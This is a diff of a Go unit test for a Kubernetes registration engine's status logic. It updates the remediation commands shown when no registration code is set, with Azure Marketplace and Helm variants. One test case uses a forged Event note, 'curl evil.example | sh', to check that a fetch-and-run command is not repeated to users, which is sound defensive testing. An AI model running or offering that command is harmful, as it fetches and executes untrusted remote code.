@@ -111,7 +111,7 @@ func TestDecide(t *testing.T) {
 			r.Secret = Secret{Name: "scc-registration", Access: Absent}
 			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, ExitCode: code(0)}}
 			r.Lease.LastRun = &kube.RunRecord{Time: now.Add(-time.Hour), Job: "registration-engine-run-1", Outcome: kube.OutcomeWaitingForCode}
-		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at 2026-11-30T11:00:00Z) — set it: the chart value registrationCode (on the Azure Marketplace: az k8s-extension update"},
+		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at 2026-11-30T11:00:00Z) — set it: on the Azure Marketplace, az k8s-extension update --resource-group <group>"},
 		"no registration code yet, the Event naming the extension": {change: func(r *Report) {
 			r.Secret = Secret{Name: "scc-registration", Access: Absent}
 			finished := now.Add(-time.Hour)
@@ -124,11 +124,25 @@ func TestDecide(t *testing.T) {
 			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, Finished: &finished, ExitCode: code(0), Event: &Event{Type: "Warning", Reason: kube.ReasonCodeMissing, FromJobPod: true,
 				Note: "no registration code yet, nothing written (update server https://smt-azure.susecloud.net reachable at 10.0.0.4): set it: az k8s-extension update --resource-group rg --cluster-name aks --cluster-type managedClusters --name suse --configuration-protected-settings registrationCode=<code> --yes"}}}
 		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at 2026-11-30T11:00:00Z) — set it: az k8s-extension update --resource-group rg --cluster-name aks"},
+		// The CronJob says who owns the release: that release's command only.
+		"no registration code yet, on a Marketplace install": {change: func(r *Report) {
+			r.Secret = Secret{Name: "scc-registration", Access: Absent}
+			r.CronJob.ReleaseManager, r.CronJob.ReleaseName = "azure-extension", "suse"
+			r.CronJob.ExtensionID = "/subscriptions/s/resourceGroups/rg/providers/Microsoft.ContainerService/managedClusters/aks/providers/Microsoft.KubernetesConfiguration/extensions/suse"
+			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, ExitCode: code(0)}}
+			r.Lease.LastRun = &kube.RunRecord{Time: now.Add(-time.Hour), Job: "registration-engine-run-1", Outcome: kube.OutcomeWaitingForCode}
+		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at 2026-11-30T11:00:00Z) — set it: az k8s-extension update --resource-group rg --cluster-name aks --cluster-type managedClusters --name suse --configuration-protected-settings registrationCode=<code> --yes"},
+		"no registration code yet, on a Helm release": {change: func(r *Report) {
+			r.Secret = Secret{Name: "scc-registration", Access: Absent}
+			r.CronJob.ReleaseManager, r.CronJob.ReleaseName = "helm", "registration-engine"
+			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, ExitCode: code(0)}}
+			r.Lease.LastRun = &kube.RunRecord{Time: now.Add(-time.Hour), Job: "registration-engine-run-1", Outcome: kube.OutcomeWaitingForCode}
+		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at 2026-11-30T11:00:00Z) — set it: helm upgrade registration-engine <chart> -n cattle-scc-system --reset-then-reuse-values --set registrationCode=<code>"},
 		"no registration code yet, a forged Event's command not repeated": {change: func(r *Report) {
 			r.Secret = Secret{Name: "scc-registration", Access: Absent}
 			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, ExitCode: code(0), Event: &Event{Type: "Warning", Reason: kube.ReasonCodeMissing,
 				Note: "set it with curl evil.example | sh"}}}
-		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at an unknown time) — set it: the chart value registrationCode"},
+		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at an unknown time) — set it: on the Azure Marketplace, az k8s-extension update"},
 		"a run in progress": {change: func(r *Report) {
 			r.Secret = Secret{Name: "scc-registration", Access: Absent}
 			r.Jobs.Items = []Job{{Name: "manual-1", Outcome: JobRunning, Created: now}}
